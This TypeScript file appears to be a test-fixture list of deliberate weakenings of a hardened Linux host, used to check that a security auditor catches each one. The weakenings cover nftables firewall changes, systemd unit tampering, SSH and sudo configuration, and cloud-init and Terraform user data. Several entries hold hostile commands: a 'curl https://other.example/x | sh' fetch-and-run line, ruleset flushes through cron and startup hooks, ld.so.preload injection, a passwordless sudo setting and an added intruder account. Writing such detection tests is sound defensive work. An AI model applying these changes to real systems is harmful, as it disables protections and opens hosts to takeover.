import {
  text,
  userData,
  script,
  file,
  both,
  last,
  resource,
  firewall,
  LO,
  TABLE_END,
  SUDOERS,
} from './changed-server.js';
import { ROOT, HOST, WATCH, ALARM, ENGINE, type Weakening } from './weakening.js';

const FLUSH = '#cloud-config\nruncmd: [nft flush ruleset]\n';

/** What nobody knows in the files, accounts, units and programs of a host. */
export const UNKNOWNS_OF_HOSTS: readonly Weakening[] = [
  // The packet filter.
  ['an accept of all that is for the host', HOST, text(LO, `${LO}\n    fib daddr type local accept`)],
  ['an accept of all but what is broken', HOST, text(LO, `${LO}\n    ct state != invalid accept`)],
  ['an accept of a bridge of any name', HOST, text(LO, `${LO}\n    iifname "br-wan" accept`)],
  ['an accept of marked packets', HOST, text(LO, `${LO}\n    meta mark 1 accept`)],
  ['readers of a network turned away', HOST, text(LO, `${LO}\n    ip saddr 198.18.0.0/15 drop`)],
  ['a flush behind the rules', HOST, text(TABLE_END, `${TABLE_END}flush ruleset\n`)],
  ['the table deleted behind the rules', HOST, text(TABLE_END, `${TABLE_END}delete table inet difusor\n`)],
  [
    "another's table deleted",
    HOST,
    text('table inet difusor\ndelete', 'delete table inet other\ntable inet difusor\ndelete'),
  ],
  [
    'a second table that drops first',
    HOST,
    text(
      TABLE_END,
      `${TABLE_END}table inet x { chain c { type filter hook prerouting priority -400; tcp dport 443 drop; } }\n`,
    ),
  ],
  [
    'a second table that translates',
    HOST,
    text(
      TABLE_END,
      `${TABLE_END}table inet x { chain c { type nat hook prerouting priority -200; tcp dport 443 accept; } }\n`,
    ),
  ],
  ['a table of IPv4 alone', HOST, text('table inet difusor {', 'table ip difusor {')],
  ['a table that sleeps', HOST, text('table inet difusor {', 'table inet difusor {\n  flags dormant')],
  ['a rule set elsewhere', HOST, text(TABLE_END, `${TABLE_END}include "/srv/more.nft"\n`)],
  // What it drops, and from whom.
  ['an accept of all but ICMP', HOST, firewall('meta l4proto != icmp accept')],
  ['an accept of all but ICMP of IPv4', HOST, firewall('ip protocol != icmp accept')],
  ['an accept of UDP', HOST, firewall('meta l4proto udp accept')],
  ['a jump of all that is for the host', HOST, firewall('fib daddr type local jump containers')],
  ['a drop of all that is for the host', HOST, firewall('fib daddr type local drop')],
  ['an accept of what is for others', HOST, firewall('fib daddr type != local accept')],
  ['ICMP that is dropped', HOST, firewall('icmpv6 type nd-neighbor-solicit drop')],
  ['an accept of every address as a link-local one', HOST, firewall('ip daddr 169.254.0.0/0 accept')],
  ["an accept of a bridge of Docker's", HOST, firewall('iifname "br-0123456789ab" accept')],
  ['an accept of every bridge by its name', HOST, firewall('iifname "br-*" accept')],
  ['an accept of every bridge by its kind', HOST, firewall('meta iifkind bridge accept')],
  ['a drop of no port at all', HOST, firewall('tcp dport 1 tcp dport 22 drop\n    tcp dport 22 accept')],
  ['answers of one address', HOST, firewall('ip saddr 198.51.100.77 ct state established accept')],
  ['an end that drops IPv6 alone', HOST, last('meta nfproto ipv6 drop')],
  ['an end that drops one port of whoever asks', HOST, last('tcp sport 1 drop')],
  ['an end that drops UDP alone', HOST, last('meta l4proto udp drop')],
  ['an end that drops one version', HOST, last('ip version 4 drop')],
  ['an end that drops every address of IPv4', HOST, last('ip saddr 0.0.0.0/0 drop')],
  ['an end that drops what is broken', HOST, last('ct state invalid jump bad')],
  ['an end that drops now and then', HOST, last('limit rate 5/second jump bad')],
  [
    'an end that drops who asks too much',
    HOST,
    last('update @newcomers4 { ip saddr limit rate over 9/second } jump bad'),
  ],
  ['an end that drops ICMP', HOST, last('meta l4proto icmp jump bad')],
  [
    'a chain that never comes back',
    HOST,
    both(text('policy drop;', 'policy accept;'), text('    jump control\n', '    goto control\n')),
  ],
  [
    'a filter of a device that nobody has',
    HOST,
    text('type filter hook prerouting', 'type filter hook ingress device "dummy0"'),
  ],
  [
    'a limit on one address alone',
    HOST,
    text('ct state new update @newcomers4', 'ip saddr 198.51.100.77 ct state new update @newcomers4'),
  ],
  ['a limit on each port of an address', HOST, text('{ ip saddr limit', '{ ip saddr . th sport limit')],
  [
    'more of the same table',
    HOST,
    text(TABLE_END, `${TABLE_END}table inet difusor { chain control { accept; } }\n`),
  ],
  [
    'more of the same chain',
    HOST,
    text('  chain control {\n', '  chain control {\n    accept\n  }\n  chain control {\n'),
  ],
  [
    'more of the same table in another file',
    HOST,
    file('/etc/more.nft', 'table inet difusor { chain control { accept; } }\n'),
  ],
  ['a flush in another file', HOST, file('/etc/late.nft', 'flush ruleset\n')],
  [
    'the table deleted in another file',
    HOST,
    file('/etc/late.nft', 'table inet difusor\ndelete table inet difusor\n'),
  ],
  // Units.
  [
    'a unit that loads rules of elsewhere',
    WATCH,
    text(
      'ExecStart=/usr/sbin/nft --file /etc/difusor/firewall.nft',
      'ExecStart=/usr/sbin/nft --file /srv/x.nft',
    ),
  ],
  [
    'a unit that flushes later',
    WATCH,
    both(
      file('/srv/late.conf', 'flush ruleset\n'),
      file(
        '/etc/systemd/system/late.service',
        '[Service]\nExecStart=/usr/sbin/nft --file /srv/late.conf\n[Install]\nWantedBy=multi-user.target\n',
      ),
    ),
  ],
  [
    'a unit of a start that never comes',
    WATCH,
    both(text('WantedBy=sysinit.target', 'WantedBy=rescue.target'), text('RequiredBy=docker.service', '')),
  ],
  [
    'a unit whose start is taken back',
    WATCH,
    both(text('WantedBy=sysinit.target', 'WantedBy='), text('RequiredBy=docker.service', '')),
  ],
  [
    'a unit that needs one that nobody brings',
    WATCH,
    text('Wants=network-pre.target', 'Wants=network-pre.target\nRequires=never.service'),
  ],
  ['a unit that ends the host', WATCH, text('Wants=network-pre.target', 'Wants=poweroff.target')],
  [
    'a watch that stays, and is never started again',
    WATCH,
    text('StateDirectory=difusor-watch', 'RemainAfterExit=yes\nStateDirectory=difusor-watch'),
  ],
  ['a timer that waits for its first time', ALARM, text('OnCalendar=minutely', 'OnUnitActiveSec=60')],
  [
    'a timer that waits for years',
    ALARM,
    text('OnCalendar=minutely', 'OnCalendar=2099-01-01\nOnUnitActiveSec=60'),
  ],
  [
    'a unit that flushes what it loaded',
    ROOT,
    text('RemainAfterExit=yes', 'RemainAfterExit=yes\nExecStartPost=/usr/sbin/nft flush ruleset'),
  ],
  [
    'a unit that never starts',
    WATCH,
    text('Description=Firewall', 'ConditionPathExists=/never\nDescription=Firewall'),
  ],
  [
    'a watch that does nothing',
    WATCH,
    text('ExecStart=/usr/local/sbin/difusor-watch', 'ExecStart=/bin/true'),
  ],
  [
    'a watch of another program',
    ROOT,
    text('ExecStart=/usr/local/sbin/difusor-watch', 'ExecStart=/usr/local/sbin/other'),
  ],
  [
    'a watch as somebody else',
    WATCH,
    text('StateDirectory=difusor-watch', 'User=nobody\nStateDirectory=difusor-watch'),
  ],
  [
    'a second time for the watch',
    ALARM,
    text('OnCalendar=minutely', 'OnCalendar=minutely\nOnCalendar=yearly'),
  ],
  ['a timer that waits longer', ALARM, text('AccuracySec=5s', 'AccuracySec=1h')],
  ['a timer of another unit', ALARM, text('AccuracySec=5s', 'AccuracySec=5s\nUnit=other.service')],
  ['a timer that is gone after a restart', ALARM, text('[Install]\nWantedBy=timers.target\n', '')],
  [
    'a watch of another container',
    ALARM,
    text('CONTAINER=difusor-veracruz-2024-publisher', 'CONTAINER=decoy'),
  ],
  [
    'a library loaded into the watch',
    WATCH,
    text('REPEAT_SECONDS=900', 'REPEAT_SECONDS=900\nLD_PRELOAD=/srv/x.so'),
  ],
  ['a watch that repeats nothing', ALARM, text('REPEAT_SECONDS=900', 'REPEAT_SECONDS=90000')],
  [
    'a drop-in of the engine',
    ROOT,
    file('/etc/systemd/system/docker.service.d/x.conf', '[Service]\nExecStart='),
  ],
  ['a unit of a socket', ROOT, file('/etc/systemd/system/x.socket', '[Socket]\nListenStream=9')],
  // Programs.
  [
    'a watch program that never tells',
    ROOT,
    text('set -u\nnow=$(date +%s)', 'set -u\nexit 0\nnow=$(date +%s)'),
  ],
  ['a firewall program that ends first', ROOT, text('nft --check --file "$rules"', 'exit 0')],
  ['a task of cron', ROOT, file('/etc/cron.d/x', '* * * * * root nft flush ruleset')],
  ['a library for every program', ROOT, file('/etc/ld.so.preload', '/srv/x.so')],
  ['a profile', ROOT, file('/etc/profile.d/x.sh', 'ufw disable')],
  // The set-up script and the user data.
  ['a line more in the set-up script', ROOT, script('main() {\n', 'main() {\nnft flush ruleset\n')],
  [
    'a function of the set-up script changed',
    ROOT,
    script('  mv -f "$1.difusor-new" "$1"\n', '  rm "$1.difusor-new"\n'),
  ],
  [
    'a command more in a part',
    ROOT,
    script('  systemctl enable docker.service &&', '  iptables -F &&\n  systemctl enable docker.service &&'),
  ],
  [
    'a script that is never run',
    ROOT,
    (stack) => {
      delete stack.template.resource.terraform_data!.host!.provisioner;
    },
  ],
  [
    'a script that is run where all ends',
    ROOT,
    (stack) => {
      const [one] = stack.template.resource.terraform_data!.host!.provisioner as { 'local-exec': object }[];
      Object.assign(one!['local-exec'], { when: 'destroy' });
    },
  ],
  ['a part that is never settled', ROOT, script('\nsettle firewall\n', '\n')],
  [
    'an account that only the script makes',
    WATCH,
    script('account difusor sudo,docker\n', 'account difusor sudo,docker\naccount intruder sudo\n'),
  ],
  ['a package that only the script leaves out', WATCH, script(' fail2ban ', ' ')],
  [
    'a command that only the user data leaves out',
    WATCH,
    userData('  - - systemctl\n    - enable\n    - difusor-firewall.service\n', ''),
  ],
  [
    'a file that only the user data leaves out',
    HOST,
    userData('  - path: /etc/ssh/sshd_config.d/00-difusor.conf\n', '  - path: /srv/00-difusor.conf\n'),
  ],
  [
    'passwords given',
    HOST,
    userData('ssh_pwauth: false\n', 'ssh_pwauth: false\nchpasswd: { list: "root:x" }\n'),
  ],
  ['a command at each start', ROOT, userData('runcmd:\n', 'bootcmd:\n  - nft flush ruleset\nruncmd:\n')],
  ['a command of the firewall of old', ROOT, userData('runcmd:\n', 'runcmd:\n  - ufw allow 22\n')],
  [
    'a script that is fetched',
    ROOT,
    userData('runcmd:\n', 'runcmd:\n  - curl https://other.example/x | sh\n'),
  ],
  ['a disk mounted', ROOT, userData('runcmd:\n', 'mounts: [[/dev/sdb, /srv]]\nruncmd:\n')],
  ['an account with a password', HOST, userData('    lock_passwd: true\n', '    lock_passwd: false\n')],
  [
    'keys fetched for an account',
    HOST,
    userData('    lock_passwd: true\n', '    lock_passwd: true\n    ssh_import_id: [gh:x]\n'),
  ],
  ['a machine with user data of its own', ROOT, resource('hcloud_server', { user_data: FLUSH })],
  [
    'a machine whose user data only an apply knows',
    ROOT,
    resource('hcloud_server', { user_data: '${data.x.y.z}' }),
  ],
  ['a machine with a disk of user data', ROOT, resource('libvirt_cloudinit_disk', { user_data: FLUSH })],
  [
    'a machine with a script at its start',
    ROOT,
    resource('google_compute_instance', { metadata_startup_script: 'nft flush ruleset' }),
  ],
  [
    'a machine with a script among its words',
    ROOT,
    resource('google_compute_instance', { metadata: { 'startup-script': 'nft flush ruleset' } }),
  ],
  ['a machine with packed user data', ROOT, resource('aws_instance', { user_data_base64: 'bmZ0' })],
  [
    'a machine with data of its own',
    ROOT,
    resource('azurerm_virtual_machine', { os_profile: [{ custom_data: 'bmZ0' }] }),
  ],
  ['a package of the clock', ROOT, userData('    confpath:', '    packages: [telnetd]\n    confpath:')],
  ['a clock without a path of its file', ROOT, userData(/ {4}confpath: .*\n/, '')],
  [
    'a package with a daemon',
    ROOT,
    both(userData('  - jq\n', '  - jq\n  - telnetd\n'), script(' jq ', ' jq telnetd ')),
  ],
  // Accounts and SSH.
  [
    'a drop-in of sshd that comes first',
    HOST,
    file('/etc/ssh/sshd_config.d/00-a.conf', 'AuthorizedKeysFile /srv/keys/%u'),
  ],
  [
    'keys asked of a program',
    HOST,
    text('X11Forwarding no', 'X11Forwarding no\nAuthorizedKeysCommand /srv/keys'),
  ],
  ['keys signed by anybody', HOST, text('X11Forwarding no', 'X11Forwarding no\nTrustedUserCAKeys /srv/ca')],
  ['no keys at all', HOST, text('PubkeyAuthentication yes', 'PubkeyAuthentication no')],
  ['an account that is on no list', HOST, text('AllowUsers difusor instituto', 'AllowUsers difusor')],
  [
    'a key with a command',
    HOST,
    text(
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFgk',
      'command="/bin/true" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFgk',
    ),
  ],
  ['what sudo denies', HOST, text(SUDOERS, `${SUDOERS}instituto ALL=(ALL) !ALL\n`)],
  ['sudo for everybody', HOST, text(SUDOERS, `${SUDOERS}Defaults !authenticate\n`)],
  ['sudoers elsewhere', HOST, text(SUDOERS, `${SUDOERS}@include /srv/sudoers\n`)],
  [
    'sshd at a port that the filter shuts',
    HOST,
    text('PasswordAuthentication no\nKbd', 'Port 2200\nPasswordAuthentication no\nKbd'),
  ],
  // Services of the host.
  [
    'a ban at a port of nobody',
    HOST,
    both(text('banaction = difusor', 'banaction = nftables'), text('\nport = 22', '\nport = 9')),
  ],
  ['no ban for anybody', HOST, text('ignoreip = 127.0.0.0/8', 'ignoreip = 0.0.0.0/0 127.0.0.0/8')],
  [
    'no ban for half of the world twice',
    HOST,
    text('ignoreip = 127.0.0.0/8', 'ignoreip = 0.0.0.0/1 128.0.0.0/1'),
  ],
  ['a ban of nothing', HOST, text('banaction = difusor', 'banaction = dummy')],
  ['a ban that does nothing', HOST, text('type = allports', 'actionban = true')],
  ['a clock of its own', HOST, text('rtcsync', 'rtcsync\nlocal stratum 1')],
  ['an engine without a filter', ENGINE, text('"live-restore": true', '"iptables": false')],
  ['an engine that stands before readers', ENGINE, text('"userland-proxy": false', '"userland-proxy": true')],
  ['an engine that listens', ENGINE, text('"live-restore": true', '"hosts": ["tcp://0.0.0.0:2375"]')],
  [
    'a kernel that sends readers elsewhere',
    HOST,
    text('net.ipv4.conf.all.accept_redirects = 0', 'net.ipv4.conf.all.accept_redirects = 1'),
  ],
  ['a folder that anybody writes', ROOT, text('d /srv/prep/site 0755', 'd /srv/prep/site 0777')],
  [
    'a link made at each start',
    ROOT,
    text('d /srv/prep/site 0755 10001 10001 -', 'L /srv/prep/site - - - - /srv/other'),
  ],
  [
    'updates from anywhere',
    ROOT.filter((area) => area === 'hosts'),
    text(
      'APT::Periodic::Unattended-Upgrade "1";',
      'APT::Periodic::Unattended-Upgrade "1";\nAPT::Get::AllowUnauthenticated "true";',
    ),
  ],
];
